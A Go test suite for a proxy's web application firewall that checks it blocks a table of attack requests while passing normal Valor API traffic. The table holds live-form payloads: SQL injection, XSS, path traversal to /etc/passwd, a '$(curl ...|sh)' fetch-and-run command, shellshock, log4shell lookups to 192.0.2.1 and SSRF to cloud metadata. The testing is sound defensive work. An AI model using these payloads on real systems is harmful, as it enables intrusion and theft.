package server_test

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
)

// wafAsk is one request of a table.
type wafAsk struct {
	name, method, target string
	fields               []string // "Name: value"
	kind, body           string
}

const (
	asJSON = "application/json"
	asForm = "application/x-www-form-urlencoded"
)

// wafAttacks are what the core rule set is for, each alone in a request that is fine otherwise.
func wafAttacks() []wafAsk {
	return []wafAsk{
		{"SQL injection in a query", "GET", "/api/notes/AAPL?id=1%27%20OR%20%271%27=%271%27%20--%20", nil, "", ""},
		{"SQL injection by union", "GET", "/api/runs?sort=1+UNION+SELECT+username,password+FROM+users--", nil, "", ""},
		{"SQL injection in JSON", "POST", "/api/auth/login", nil, asJSON, `{"username":"admin' OR 1=1 -- ","password":"x"}`},
		{"SQL injection in a form", "POST", "/api/auth/login", nil, asForm, "username=x&password=%27%3B+DROP+TABLE+users%3B--"},
		{"SQL injection in a cookie", "GET", "/api/runs", []string{"Cookie: session=1' AND SLEEP(5)-- -"}, "", ""},
		{"script in a query", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", nil, "", ""},
		{"script in JSON", "POST", "/api/notes/AAPL", nil, asJSON, `{"content":"<img src=x onerror=alert(1)>"}`},
		{"script in the Referer", "GET", "/", []string{"Referer: https://a/?<script>alert(1)</script>"}, "", ""},
		{"javascript: URL", "GET", "/go?to=javascript:alert(document.domain)", nil, "", ""},
		{"path traversal in a query", "GET", "/download?file=../../../../etc/passwd", nil, "", ""},
		{"path traversal, encoded twice", "GET", "/download?file=..%252f..%252f..%252fetc%252fpasswd", nil, "", ""},
		{"a file of the system", "GET", "/view?page=/etc/shadow", nil, "", ""},
		{"hidden files", "GET", "/.git/config", nil, "", ""},
		{"secrets in .env", "GET", "/app/.env", nil, "", ""},
		{"remote file inclusion", "GET", "/?page=http://192.0.2.1/shell.txt%3f", nil, "", ""},
		{"shell command", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", nil, "", ""},
		{"shell command in JSON", "POST", "/api/runs", nil, asJSON, `{"inputs":{"ticker":"$(curl http://192.0.2.1/x|sh)"}}`},
		{"shellshock", "GET", "/cgi-bin/status", []string{"User-Agent: () { :;}; /bin/bash -c \"cat /etc/passwd\""}, "", ""},
		{"log4shell in User-Agent", "GET", "/", []string{"User-Agent: ${jndi:ldap://192.0.2.1/a}"}, "", ""},
		{"log4shell, disguised", "GET", "/", []string{"X-Api-Version: ${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}"}, "", ""},
		{"log4shell in JSON", "POST", "/api/errors", nil, asJSON, `{"message":"${jndi:rmi://192.0.2.1:1099/x}"}`},
		{"Node code", "GET", "/hello?name=process.mainModule.require('child_process').execSync('id')", nil, "", ""},
		{"Java serialisation", "POST", "/api/x", nil, asForm, "data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ%3D%3D&c=java.lang.Runtime.getRuntime().exec(1)"},
		{"PHP code", "GET", "/?x=%3C?php%20system($_GET['c']);?%3E", nil, "", ""},
		{"Node prototype", "POST", "/api/runs", nil, asJSON, `{"__proto__":{"x":1},"a":"require('child_process').exec('id')"}`},
		{"response splitting", "GET", "/?u=%0d%0aSet-Cookie:%20admin=1", nil, "", ""},
		{"scanner", "GET", "/", []string{"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"}, "", ""},
		{"SSRF to the cloud's metadata", "GET", "/fetch?url=http://169.254.169.254/latest/meta-data/", nil, "", ""},
		{"JSON that is none", "POST", "/api/runs", nil, asJSON, `{"a":`},
	}
}

// wafClients are requests of the Valor API and of browsers, none of which may be taken for an attack at paranoia 1.
func wafClients(t *testing.T) []wafAsk {
	token := "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwiZXhwIjoxNzAwMDAwMDAwfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
	tenant := []string{token, "X-Tenant-ID: 7c9e6679-7425-40de-944b-e07fc1f90ae7"}
	ask := func(method, target, body string) wafAsk {
		kind := ""
		if body != "" {
			kind = asJSON
		}
		return wafAsk{method + " " + target, method, target, tenant, kind, body}
	}
	file := &bytes.Buffer{}
	form := multipart.NewWriter(file)
	part, err := form.CreateFormFile("upload", "prices 2025 (final).csv")
	if err == nil {
		_, err = io.WriteString(part, "date,open,close\n2025-01-02,101.5,103.25\n2025-01-03,103.0,99.75\n")
	}
	if err != nil || form.WriteField("note", "Q1's prices & fees, 50% off") != nil || form.Close() != nil {
		t.Fatal(err)
	}
	return []wafAsk{
		ask("GET", "/api/health", ""), ask("GET", "/api/readiness", ""), ask("GET", "/metrics", ""), ask("GET", "/slo/status", ""),
		{"register", "POST", "/api/auth/register", nil, asJSON, `{"username":"maria.o'neil","email":"maria.oneil+valor@example.co.uk","password":"Tr0ub4dor&3-correct_horse"}`},
		{"login", "POST", "/api/auth/login", nil, asJSON, `{"username":"ann","password":"p@ss w0rd!#%"}`},
		{"refresh", "POST", "/api/auth/refresh", nil, asJSON, `{"refresh_token":"eyJhbGciOiJIUzI1NiJ9.eyJ0eXBlIjoicmVmcmVzaCJ9.c2lnbmF0dXJl"}`},
		ask("GET", "/api/auth/profile", ""),
		ask("POST", "/api/runs", `{"inputs":{"ticker":"BRK.B","revenue":394328000000,"growth":[0.05,0.04,-0.03],"wacc":0.085,"terminal_growth":2.5e-2,"years":5},"mc_settings":{"iterations":10000,"seed":42},"timestamp":"2026-11-23T04:10:00.123Z"}`),
		ask("GET", "/api/runs?page=2&per_page=50&sort_by=created_at&sort_order=desc", ""), ask("GET", "/api/runs/last", ""), ask("GET", "/api/runs/7c9e6679-7425-40de-944b-e07fc1f90ae7", ""),
		ask("POST", "/api/scenarios", `[{"name":"Bull case (high growth)","ticker":"AAPL","inputs":{"growth":0.12}},{"name":"Bär & Söhne","ticker":"SAP.DE","inputs":{"growth":-0.02}}]`),
		ask("GET", "/api/scenarios", ""), ask("DELETE", "/api/scenarios/42", ""),
		ask("GET", "/api/notes/AAPL", ""),
		{"note with If-Match", "POST", "/api/notes/AAPL", append([]string{`If-Match: "3-a1b2c3"`}, tenant...), asJSON,
			`{"content":"Margins fell 2% in Q3; management's guidance: \"flat\". See 10-K, p. 42.\n- capex up\n- buy below $150?","version":3}`},
		ask("GET", "/api/financial-data/MSFT/historical-prices?interval=daily&from=2024-01-01&to=2024-12-31", ""), ask("GET", "/api/financial-data/BF.B/dcf-inputs", ""),
		ask("POST", "/api/lbo/runs", `{"inputs":{"companyName":"Smith & Sons, Inc.","ebitda":1.2e8,"debt":[{"tranche":"Senior A","rate":0.065},{"tranche":"Mezzanine","rate":0.11}]}}`),
		ask("POST", "/api/ma/runs", `{"deal_name":"Project Falcon","acquirer_name":"AT&T","target_name":"Time Warner","inputs":{"premium":0.3},"results":{"accretion":-0.012}}`),
		ask("POST", "/api/ma/scenarios", `{"scenarios":[{"name":"Base","inputs":{"synergies":250}}]}`),
		ask("GET", "/api/reports/dcf?run_id=7c9e6679-7425-40de-944b-e07fc1f90ae7&format=html", ""),
		ask("POST", "/api/errors", `{"message":"TypeError: Cannot read properties of undefined (reading 'map')","stack":"at App (https://valor.example.com/static/js/main.3f2a.js:2:14523)","url":"https://valor.example.com/runs","userAgent":"Mozilla/5.0"}`),
		ask("POST", "/api/real-options/expansion", `{"underlying":100,"strike":95.5,"volatility":0.25,"risk_free_rate":0.03,"time_to_maturity":2}`),
		ask("POST", "/api/risk/var/historical", `{"returns":[-0.0123,0.0045,0.0201,-0.0312,0.0007],"confidence_level":0.99,"portfolio_value":1000000}`),
		ask("POST", "/api/portfolio/optimize/black-litterman", `{"assets":["AAPL","MSFT","GOOG"],"views":[{"assets":["AAPL","MSFT"],"weights":[1,-1],"return":0.02}],"tau":0.05}`),
		ask("POST", "/api/credit-risk/merton-pd", `{"asset_value":120,"debt":100,"volatility":0.2,"t":1}`),
		ask("GET", "/api/data/search?q=Johnson%20%26%20Johnson", ""), ask("PUT", "/api/tenant/branding", `{"color":"#0a7cff","title":"Valor — für alle"}`),
		ask("PATCH", "/api/tenant/plan", `{"plan":"pro","seats":25}`),
		{"page", "GET", "/dashboard?utm_source=newsletter&utm_medium=e-mail", []string{"Cookie: theme=dark; _ga=GA1.2.1033501218.1368477899; session=7c9e667974254", "Accept-Language: de-DE,de;q=0.9,en;q=0.8"}, "", ""},
		{"script of the page", "GET", "/static/js/main.3f2a9c.chunk.js", []string{"Referer: https://valor.example.com/dashboard?tab=runs&sort=name"}, "", ""},
		{"upload", "POST", "/api/data/upload", tenant, form.FormDataContentType(), file.String()},
		{"form", "POST", "/contact", nil, asForm, url.Values{"name": {"Seán O'Brien"}, "text": {"Hello, I'd like to select a plan and drop the old one; where do I start?"}}.Encode()},
		{"preflight", "OPTIONS", "/api/runs", []string{"Origin: https://valor.example.com", "Access-Control-Request-Method: POST", "Access-Control-Request-Headers: authorization,content-type,x-tenant-id"}, "", ""},
	}
}

const (
	wafHost  = "valor.example.com"
	wafAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)

// head is the request's fields, with those that every client sends.
func (a wafAsk) head() []string {
	list := append([]string{"Accept: */*", "Accept-Encoding: gzip"}, a.fields...)
	if !strings.Contains(strings.Join(a.fields, "\n"), "User-Agent: ") {
		list = append(list, "User-Agent: "+wafAgent)
	}
	if a.kind != "" {
		list = append(list, "Content-Type: "+a.kind)
	}
	return list
}

// one sends it by HTTP/1.1 on a connection of its own.
func (a wafAsk) one(t *testing.T, address, host string) (status int, body string) {
	t.Helper()
	lines := append([]string{a.method + " " + a.target + " HTTP/1.1", "Host: " + host, "Connection: close"}, a.head()...)
	if a.body != "" {
		lines = append(lines, fmt.Sprintf("Content-Length: %d", len(a.body)))
	}
	answer := say(t, address, strings.Join(lines, "\r\n")+"\r\n\r\n"+a.body)
	if _, err := fmt.Sscanf(answer, "HTTP/1.1 %d", &status); err != nil {
		t.Fatalf("%s: %q", a.name, answer)
	}
	return status, answer
}

// two sends it by HTTP/2.
func (a wafAsk) two(t *testing.T, client *http.Client, address, host string) (status int, body string) {
	t.Helper()
	req, err := http.NewRequest(a.method, "http://"+address+"/", strings.NewReader(a.body))
	if err != nil {
		t.Fatal(err)
	}
	req.URL.Opaque, req.Host = a.target, host
	for _, f := range a.head() {
		name, value, _ := strings.Cut(f, ": ")
		req.Header.Add(name, value)
	}
	res, err := client.Do(req)
	if err != nil {
		t.Fatalf("%s: %v", a.name, err)
	}
	defer func() { _ = res.Body.Close() }()
	text, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatalf("%s: %v", a.name, err)
	}
	return res.StatusCode, string(text)
}

// wafEdge is an edge with a route of waf "it" for every host, and of "other" for other.example.com, over an upstream that returns what it is sent.
func wafEdge(t *testing.T, tables string, files map[string]string) (*running, string) {
	t.Helper()
	dir := shortDir(t)
	for name, text := range files {
		put(t, dir, name, text)
	}
	blue := &colour{name: "blue", address: "127.0.0.1:0", handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		w.Header().Set("X-Served", "blue")
		w.Header().Set("Content-Length", strconv.Itoa(len(body)))
		_, _ = w.Write(body)
	})}
	blue.start(t)
	text := "[admin]\naddress = \"unix://" + dir + "/admin.sock\"\nstate_dir = \"state\"\n[log]\noutput = \"log\"\n[[listener]]\nname = \"http\"\naddress = \"127.0.0.1:0\"\nprotocols = [\"http/1.1\", \"h2\"]\n" +
		tables + "[[route]]\nname = \"all\"\nservice = \"api\"\nwaf = \"it\"\n[service.api.group.blue]\ntargets = [\"" + blue.address + "\"]\n"
	if strings.Contains(tables, "[waf.other]") {
		text += "[[route]]\nname = \"other\"\nhost = [\"other.example.com\"]\nservice = \"api\"\nwaf = \"other\"\n"
	}
	r := run(t, dir, text)
	t.Cleanup(func() {
		blue.kill()
		_ = os.RemoveAll(dir)
	})
	return r, text
}

// stopAndRead is the log of an edge that has ended.
func stopAndRead(t *testing.T, r *running) string {
	t.Helper()
	r.stop()
	log, err := os.ReadFile(filepath.Join(r.dir, "log"))
	if err != nil {
		t.Fatal(err)
	}
	return string(log)
}

// TestWAF: by HTTP/1.1 and HTTP/2, every attack of the table is 403 where the WAF blocks, with the rules in the log and without what was sent; where it only detects, it
// passes and is counted; and no request of the Valor API is taken for one.
func TestWAF(t *testing.T) {
	r, _ := wafEdge(t, "[waf.it]\nmode = \"block\"\ntimeout = \"1m\"\n[waf.other]\ntimeout = \"1m\"\n", nil)
	h2 := h2cClient(t)
	attacks, clients := wafAttacks(), wafClients(t)
	blocked, allowed := 0, 0
	skipped := func(i int) bool { return testing.Short() && i%3 != 0 } // judging costs milliseconds, ten times that with the race detector
	for i, a := range attacks {
		blocked++
		if status, body := a.one(t, r.address, wafHost); status != http.StatusForbidden || !strings.Contains(body, `"reason":"waf_blocked"`) {
			t.Errorf("%s: %d", a.name, status)
		}
		if skipped(i) {
			continue
		}
		blocked++
		if status, _ := a.two(t, h2, r.address, wafHost); status != http.StatusForbidden {
			t.Errorf("%s, HTTP/2: %d", a.name, status)
		}
	}
	for _, a := range attacks[:5] {
		if status, body := a.one(t, r.address, "other.example.com"); status != http.StatusOK || !strings.Contains(body, "X-Served: blue") || !strings.HasSuffix(body, a.body) {
			t.Errorf("%s, detected: %d %s", a.name, status, body)
		}
	}
	for i, a := range clients {
		allowed++
		if status, body := a.one(t, r.address, wafHost); status != http.StatusOK || !strings.HasSuffix(body, "\r\n\r\n"+a.body) {
			t.Errorf("%s: %d %s", a.name, status, body)
		}
		if skipped(i) {
			continue
		}
		allowed++
		if status, body := a.two(t, h2, r.address, wafHost); status != http.StatusOK || body != a.body {
			t.Errorf("%s, HTTP/2: %d %s", a.name, status, body)
		}
	}
	wanted := []string{
		fmt.Sprintf(`weir_waf_decisions_total{decision="blocked",waf="it"} %d`, blocked), fmt.Sprintf(`weir_waf_decisions_total{decision="allowed",waf="it"} %d`, allowed),
		`weir_waf_decisions_total{decision="detected",waf="other"} 5`, `weir_waf_decisions_total{decision="failed_open",waf="other"} 0`, `weir_waf_last_reload_successful{waf="it"} 1`,
	}
	eventually(t, "the decisions in a scrape", func() bool { // the last are counted after their answers
		m := r.call(http.StatusOK, "GET", "/metrics", "")
		for _, w := range wanted {
			if !strings.Contains(m, w+"\n") {
				return false
			}
		}
		return true
	})
	if e := r.call(http.StatusOK, "POST", "/v1/explain", `{"url":"http://other.example.com/"}`); !strings.Contains(e, `"waf other"`) || !strings.Contains(e, "what would be blocked passes") {
		t.Errorf("explain: %s", e)
	}
	log := stopAndRead(t, r)
	if n := len(regexp.MustCompile(`"weir\.waf\.rules":"[\d ]*942100[\d ]*949110".*"weir\.reason":"waf_blocked"|"weir\.reason":"waf_blocked".*"weir\.waf\.rules":"[\d ]*942100[\d ]*949110"`).FindAllString(log, -1)); n < 4 {
		t.Errorf("%d lines with the rules of an SQL injection", n)
	}
	for line := range strings.Lines(log) {
		if strings.Contains(line, `"weir.waf.says"`) && (strings.Contains(line, "DROP") || strings.Contains(line, "alert(") || strings.Contains(line, "jndi")) {
			t.Errorf("the log quotes an attack: %s", line)
		}
	}
}

const ownRules = `SecRule ARGS|ARGS_NAMES|REQUEST_HEADERS "@contains attack" "id:1001,phase:2,deny,msg:'an attack'"
SecRule REQUEST_HEADERS:X-Bad "@streq early" "id:1002,phase:1,deny,msg:'early'"
SecRule RESPONSE_HEADERS:X-Served "@streq blue" "id:1003,phase:3,deny,msg:'leaks',chain"
  SecRule REQUEST_HEADERS:X-Bad "@streq late" "t:none"
SecRuleEngine Off
`

// TestWAFBodies: what is judged of a body is what the upstream gets, in whatever pieces it comes; the beginning of a long one is judged, the rest streams; what
// on_oversize = "block" does.
func TestWAFBodies(t *testing.T) {
	table := "ruleset = \"none\"\nrules_file = \"own.conf\"\nmode = \"block\"\nmax_body = \"8KiB\"\nmax_arguments = 10\ntimeout = \"1m\"\n"
	r, _ := wafEdge(t, "[waf.it]\n"+table+"[waf.other]\n"+table+"on_oversize = \"block\"\n", map[string]string{"own.conf": ownRules})
	h2 := h2cClient(t)
	// Long, and yet taken by the socket whole, however early the answer comes.
	filler, long := strings.Repeat("a=b&", 5<<10), "x="+strings.Repeat("y", 30<<10)
	for _, c := range []struct {
		name, host, body string
		fields           []string
		want             int
		reason           string
	}{
		{"short", wafHost, "a=b", nil, 200, ""},
		{"attack", wafHost, "a=an+attack", nil, 403, "waf_blocked"},
		{"attack at the end of 7 KiB", wafHost, "x=" + strings.Repeat("y", 7<<10) + "&q=attack", nil, 403, "waf_blocked"},
		{"30 KiB", wafHost, long, nil, 200, ""},
		{"attack at the start of 30 KiB", wafHost, "q=attack&" + long, nil, 403, "waf_blocked"},
		{"attack behind what is judged", wafHost, long + "&q=attack", nil, 200, ""},
		{"attack behind the arguments", wafHost, filler[:80] + "q=attack", nil, 200, ""},
		{"30 KiB, blocked", "other.example.com", long, nil, 403, "waf_blocked"},
		{"many arguments, blocked", "other.example.com", filler[:80] + "q=1", nil, 403, "waf_blocked"},
		{"short, there too", "other.example.com", "a=b", nil, 200, ""},
		{"by its head", wafHost, "a=b", []string{"X-Bad: early"}, 403, "waf_blocked"},
		{"by its answer", wafHost, "a=b", []string{"X-Bad: late"}, 403, "waf_blocked"},
		{"half an escape", wafHost, "a=%4", nil, 200, ""},
	} {
		ask := wafAsk{c.name, "POST", "/", c.fields, asForm, c.body}
		status, body := ask.one(t, r.address, c.host)
		if status != c.want || status == 200 && !strings.HasSuffix(body, "\r\n\r\n"+c.body) || c.reason != "" && !strings.Contains(body, `"reason":"`+c.reason+`"`) {
			t.Errorf("%s: %d %.300s", c.name, status, body)
		}
		if status, body := ask.two(t, h2, r.address, c.host); status != c.want || status == 200 && body != c.body {
			t.Errorf("%s, HTTP/2: %d %.300s", c.name, status, body)
		}
	}
	for _, attack := range []bool{false, true} { // in pieces, after an invitation, on a connection that goes on
		body := strings.Repeat("k=v&", 5<<10) + fmt.Sprintf("last=%t", attack)
		want := http.StatusOK
		if attack {
			body, want = "q=attack&"+body, http.StatusForbidden
		}
		res, got := inPieces(t, r.address, body)
		if res.StatusCode != want || want == http.StatusOK && got != body {
			t.Errorf("in pieces, attack %t: %d %.100s", attack, res.StatusCode, got)
		}
	}
	eventually(t, "what was judged in part, in a scrape", func() bool {
		return strings.Contains(r.call(http.StatusOK, "GET", "/metrics", ""), "weir_waf_decisions_total{decision=\"partial\",waf=\"it\"} 7\n")
	})
	r.stop()
}

// inPieces POSTs a chunked form behind Expect: 100-continue.
func inPieces(t *testing.T, address, body string) (*http.Response, string) {
	t.Helper()
	c := connect(t, address)
	defer func() { _ = c.conn.Close() }()
	_ = c.conn.SetDeadline(time.Now().Add(60 * time.Second))
	_, _ = io.WriteString(c.conn, "POST / HTTP/1.1\r\nHost: a\r\nUser-Agent: x\r\nContent-Type: "+asForm+"\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n") // the answer tells
	if line, err := c.r.ReadString('\n'); err != nil || line != "HTTP/1.1 100 Continue\r\n" {
		t.Fatalf("%q %v", line, err)
	}
	_, _ = c.r.ReadString('\n')
	for rest := body; rest != ""; {
		n := min(1000, len(rest))
		if _, err := fmt.Fprintf(c.conn, "%x\r\n%s\r\n", n, rest[:n]); err != nil {
			break // an early answer
		}
		rest = rest[n:]
	}
	_, _ = io.WriteString(c.conn, "0\r\n\r\n")
	res, err := http.ReadResponse(c.r, nil)
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res, string(got)
}

// TestWAFRulesFollowed: a changed file of rules is in force, one with a mistake changes nothing and is told, and a reload that has one is refused.
func TestWAFRulesFollowed(t *testing.T) {
	r, text := wafEdge(t, "[waf.it]\nruleset = \"none\"\nrules_file = \"own.conf\"\nmode = \"block\"\ntimeout = \"1m\"\n", map[string]string{"own.conf": ownRules})
	blocked := func(word string) bool {
		status, _ := wafAsk{word, "GET", "/?q=" + word, nil, "", ""}.one(t, r.address, wafHost)
		return status == http.StatusForbidden
	}
	good := func(want string) bool {
		return strings.Contains(r.call(http.StatusOK, "GET", "/metrics", ""), `weir_waf_last_reload_successful{waf="it"} `+want+"\n")
	}
	if !blocked("attack") || blocked("onslaught") || !good("1") {
		t.Error("the rules are not in force")
	}
	put(t, r.dir, "own.conf", `SecRule ARGS "@contains onslaught" "id:1,phase:2,deny`+"\n")
	eventually(t, "the mistake in a metric", func() bool { return good("0") })
	if !blocked("attack") || blocked("onslaught") {
		t.Error("a file with a mistake changed the rules")
	}
	r.write(strings.Replace(text, "mode = \"block\"", "mode = \"block\"\nparanoia = 2", 1))
	if a := r.call(http.StatusUnprocessableEntity, "POST", "/v1/reload", ""); !strings.Contains(a, "own.conf") {
		t.Errorf("a reload with a mistake in the rules: %s", a)
	}
	if ok, said := checked(filepath.Join(r.dir, "weir.toml")); ok || !strings.Contains(said, "waf it: ") || !strings.Contains(said, "own.conf") {
		t.Errorf("check: %t %s", ok, said)
	}
	put(t, r.dir, "own.conf", strings.Replace(ownRules, "attack", "onslaught", 1))
	eventually(t, "the new rules", func() bool { return blocked("onslaught") })
	if blocked("attack") || !good("1") {
		t.Error("the old rules are still in force")
	}
	r.stop()
}
